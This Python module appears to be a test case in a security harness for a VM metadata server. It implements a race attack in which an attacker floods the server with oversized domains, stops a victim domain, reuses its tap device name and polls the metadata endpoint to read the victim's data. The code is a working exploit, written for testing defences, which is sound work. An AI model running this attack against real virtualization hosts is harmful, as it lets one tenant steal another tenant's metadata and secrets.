"""An operator starts a domain whose tap has the name of the tap of a neighbour's domain that has just stopped.

What a domain's tap is called is its author's choice as soon as the name is free, and so is its hardware address. Gained: the data of the
neighbour's domain, for as long as the server has not been told that it has stopped; the attacker keeps the server busy with large domains
of its own, so that this takes long. In the way: a domain counts as a tap's owner only after it was read since the tap appeared, and for
that it is read before all others. A tap that stays is the same link for whoever opens it next, and the server hears of that a moment later: each
connection by such a tap asks the kernel how often it was opened. The attacker is there before the server has heard.
"""

import contextlib
import time

import attack
import space
from attack import Outcome
from field import METADATA, Field, ask
from guest import TAP, Guest
from host import Host

# Domains that take long to read, and the bytes of each.
BUSY, SIZE = 40, 3_000_000


def busy(number: int) -> str:
    """One of them, within all limits."""
    return (f"<domain type='test'><name>busy-{number}</name><uuid>7b1c4a5e-0000-4000-8000-0000000a{number:04x}</uuid><memory>8192</memory>"
            "<vcpu>1</vcpu><os><type>hvm</type></os><metadata><instance xmlns='urn:virt-metadata:instance:1'><userdata>"
            + "#!/bin/sh\n" + ("x" * 79 + "\n") * (SIZE // 80) + "</userdata></instance></metadata></domain>")


class Attack(attack.Attack):
    """Victim-1 stops, and a thief's tap has its name: once a new one, and twice the same one, which outlives who has it open."""

    families = (4,)
    hosts = ("address",)
    victims = slice(1, None)
    rate = 50
    no_proof = "no option has the server trust what it read before; the thief must wait for its own data, or the server was not busy"

    def __init__(self) -> None:
        """The thief is victim-1 in all but its domain."""
        self.thief: Guest | None = None

    def prepare(self, host: Host) -> None:
        """Starts the domains that keep the server busy."""
        for number in range(BUSY):
            host.hypervisor.start(busy(number))
        host.wait_until_served(host.victims[0], seconds=60)

    def attack(self, field: Field) -> None:
        """Nothing: the XML is the attack."""
        field.wait()

    def during(self, host: Host, outcome: Outcome) -> None:
        """Steals twice."""
        victim = host.victims[0]
        self.thief = Guest("thief", victim.number, victim.tap, cable=TAP)
        self.thief.create()
        outcome.host_report["new tap"] = self._steal(host, "suspend")
        self._give_back(host)
        victim.unplug()
        space.ip(f"tuntap add dev {victim.tap} mode tap")
        host.plug(victim)
        host.wait_until_served(victim, seconds=30)
        outcome.host_report["same tap"] = self._steal(host, "resume")
        self.thief.unplug()
        space.ip("tuntap add dev eth0 mode tap", "thief")
        host.plug(self.thief)
        self._give_back(host)
        outcome.host_report["same tap at once"] = self._steal(host, "suspend", at_once=True)

    def _steal(self, host: Host, change: str, *, at_once: bool = False) -> list[tuple[float, int, str]]:
        """What the thief reads, from the start of its domain, or from the opening of its tap, until it reads its own data."""
        victim = host.victims[0]
        # Each is in another state, and so is read and assembled anew.
        host.hypervisor.virsh("; ".join(f"{change} busy-{number}" for number in range(BUSY)))
        host.hypervisor.stop(victim.name)
        victim.unplug()
        begin, seen = time.monotonic(), []
        if at_once:
            self.thief.open()
            self._read(begin, seen, most=0.5)
        else:
            host.plug(self.thief)
        host.hypervisor.start(self.thief.xml())
        self._read(begin, seen, most=60)
        return seen

    def _read(self, begin: float, seen: list[tuple[float, int, str]], *, most: float) -> None:
        with space.inside(self.thief.name):
            while time.monotonic() - begin < most:
                status, body = ask(METADATA[4], seconds=min(most, 2))
                found = (status, body.decode(errors="replace")[:60])
                if not seen or seen[-1][1:] != found:
                    seen.append((round(time.monotonic() - begin, 3), *found))
                if found[1] == self.thief.body:
                    return
                time.sleep(0.02)

    def _give_back(self, host: Host) -> None:
        victim = host.victims[0]
        host.hypervisor.stop(self.thief.name)
        self.thief.unplug()
        host.plug(victim)
        host.hypervisor.start(victim.xml())
        host.wait_until_served(victim, seconds=60)

    def gained(self, outcome: Outcome) -> str | None:
        """Victim-1's data."""
        for name in ("new tap", "same tap", "same tap at once"):
            seen = outcome.host_report[name]
            if stolen := [one for one in seen if "victim" in one[2]]:
                return f"by the {name} the thief read {stolen[0][2]} after {stolen[0][0]} s"
            if seen[-1][2] != self.thief.body:
                return f"by the {name} the thief was not served at all: {seen}"
        return None

    def restore(self, host: Host) -> None:
        """Ends the thief and the busy domains."""
        victim = host.victims[0]
        host.hypervisor.stop(*[name for name in host.hypervisor.names() if name == "thief" or name.startswith("busy-")] or ["none"])
        for one in (self.thief, victim):
            with contextlib.suppress(space.Failure):
                one.unplug()
        with contextlib.suppress(space.Failure):
            space.ip(f"link delete {victim.tap}")
        with contextlib.suppress(space.Failure):
            space.ip("netns delete thief")
        host.plug(victim)
        if victim.name not in host.hypervisor.names():
            host.hypervisor.start(victim.xml())
        host.wait_until_served(victim, seconds=60)
